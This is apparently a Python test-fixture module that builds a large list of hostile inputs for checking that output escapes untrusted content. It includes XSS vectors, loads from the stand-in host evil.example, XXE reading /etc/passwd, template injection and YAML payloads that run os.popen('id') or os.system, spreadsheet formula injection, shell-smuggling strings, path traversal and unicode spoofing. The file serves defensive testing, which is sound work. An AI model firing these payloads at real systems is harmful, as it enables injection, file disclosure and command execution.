"""Hostile texts, made from families of what is publicly known to break pages that trust content.

Each would call ``hit()``, ask ``evil.example`` for something, or break the form of a file, if any
output took it for more than text.
"""

from itertools import product

HOST = "evil.example"

BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "</a></p>",
    "`>",
)
ELEMENTS = (
    "<script>hit()</script>",
    f"<script src=//{HOST}/a.js></script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '<svg><animate onbegin="hit()" attributeName="x" dur="1s"/></svg>',
    f"<iframe srcdoc='<script>parent.hit()</script>' src=//{HOST}/></iframe>",
    "<object data=javascript:hit()></object>",
    f"<embed src=//{HOST}/a.svg>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<style>@import '//{HOST}/a.css'</style>",
    "<form action=javascript:hit()><button>go</button></form>",
    "<a href=javascript:hit()>go</a>",
)
QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#34;", "&#x27;", '" ', "'\t", '"/')
HANDLERS = (
    "onmouseover=hit() x=",
    "autofocus onfocus=hit() tabindex=0 x=",
    "onanimationstart=hit() style=animation:x x=",
    "style=background:url(//evil.example/a) x=",
    "srcdoc=<script>hit()</script> x=",
    "href=javascript:hit() x=",
)
SCHEMES = ("javascript", "vbscript", "data", "blob", "file", "filesystem", "view-source", "about")
DISGUISES = (
    "{0}:{1}",
    " {0}:{1}",
    "\t{0}:{1}",
    "{0}\t:{1}",
    "{0}&colon;{1}",
    "{0}&#58;{1}",
    "{0}&#x3A{1}",
    "{0}%3A{1}",
    "&#1;{0}:{1}",
    "&Tab;{0}:{1}",
    "{0}\u200b:{1}",
    "\u00a0{0}:{1}",
    "//{0}:{1}",
    "https:{0}:{1}",
    "https://a.org@{0}:{1}",
    "\\\\{0}:{1}",
)
CODE = {"data": "text/html,<script>hit()</script>", "vbscript": "hit", "file": "///etc/passwd"}
MARKDOWN = (
    "[go]({0})",
    "![go]({0})",
    "<{0}>",
    '[go](https://a.org "{0}")',
    '![{0}](a.png "{0}")',
    "[go][r]\n\n[r]: {0}",
    '[go][r]\n\n[r]: https://a.org "{0}"',
    "# {0} {{#x onclick=hit()}}",
    "```{0}\nx\n```",
    "~~~html {0}\nx\n~~~",
    "[^{0}]\n\n[^{0}]: {0}",
    "> [!{0}]\n> x",
    "|{0}|\n|-|\n|{0}|",
)
INTO_MARKDOWN = (
    "javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    '"onerror=hit()//',
    '"><img src=x onerror=hit()>',
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()>">',
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<table><td></table><img src=x onerror=hit()><template><script>hit()</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<select><noembed></select><script x='a@b'a>hit()//</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>&b;",
    "<?php system('id'); ?>",
    "<!--[if IE]><script>hit()</script><![endif]-->",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<ScRiPt\n>hit()</sCrIpT\t>",
    "<img/src=x/onerror=hit()//",
    "<a\u2028href=javascript:hit()>x",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u02c2script\u02c3hit()",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\x1b[2J\x1b]0;owned\x07",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ frame.settings }}",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ program.minimum_contributions }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# a comment #}",
    "{%- raw -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s {0} {name}",
    "{{constructor.constructor('hit()')()}}",
    "$(id) `id` ; id | id && id",
)
FORMS = (
    '=HYPERLINK("https://evil.example","go")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '"",=1+1,""',
    "a,b;c\td",
    "END:VCARD",
    "x\\nEND:VEVENT\\nBEGIN:VALARM",
    "x;ATTENDEE=mailto:a@evil.example:",
    "*/hit()/*",
    "';hit()//",
    "\\';hit()//",
    "</script><script>hit()//",
    '{"a": 1}',
    "]}}hit(){{[",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "true",
    "NO",
    "~",
    "2025-01-01",
    "1e3",
    "0x10",
    "| tee",
    "- a: b",
    "? a",
    "!!python/object/apply:os.system [id]",
    "&a *a",
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "con",
    "nul.md",
    "a/b",
    ".",
    "..",
    "%2e%2e%2f",
    "::error file=a::b",
    "##[error]x",
    "::set-output name=a::b",
)
BIDI = tuple(f"Sam{sign}ple" for sign in map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
UNSEEN = tuple(
    f"Sam{chr(point)}ple"
    for point in (
        *(0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x85, 0x9B),
        *(0xAD, 0x61C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x2060),
        *(0x3164, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFE, 0xE0041, 0x1F600, 0x10FFFF),
    )
)
LOOKALIKES = (
    "S\u0430mple",
    "\u0405ample",
    "Sa\u0301\u0302\u0303\u0304" + "\u0336" * 40 + "mple",
    "\ufdfd" * 20,
    "\U0001d54a\U0001d552",
    "paypal.com\u2044evil.example",
    "ﬀ ﬁ ﬂ",
    "İıſK",
    "a" * 199,
    "漢" * 199,
)


def _addresses() -> list[str]:
    return [
        disguise.format(scheme, CODE.get(scheme, "hit()"))
        for scheme, disguise in product(SCHEMES, DISGUISES)
    ]


ADDRESSES = (
    *_addresses(),
    f"//{HOST}/",
    f"/\\{HOST}/",
    f"https:\\\\{HOST}",
    f"https:/{HOST}",
    "https://",
    "https://a.org/\"onclick='hit()'",
    "https://a.org/<script>hit()</script>",
    "https://a.org/?q='><svg onload=hit()>",
    "https://a.org/#`${hit()}`",
    "https://user:secret@a.org/",
    "https://[::1]/",
    "https://a.org:99999/",
    "ftp://a.org/",
    "mailto:a@b.org?cc=x@evil.example",
    "tel:1",
    "intent://a#Intent;end",
    "ws://a.org/",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"{out}{element}" for out, element in product(BREAKOUTS, ELEMENTS)),
            *(f"x{quote}{handler}{quote}" for quote, handler in product(QUOTES, HANDLERS)),
            *ADDRESSES,
            *(form.format(inner) for form, inner in product(MARKDOWN, INTO_MARKDOWN)),
            *(*MUTATIONS, *TEMPLATES, *FORMS, *BIDI, *UNSEEN, *LOOKALIKES),
        )
    )
)
"""All of them, each once, in a fixed order."""
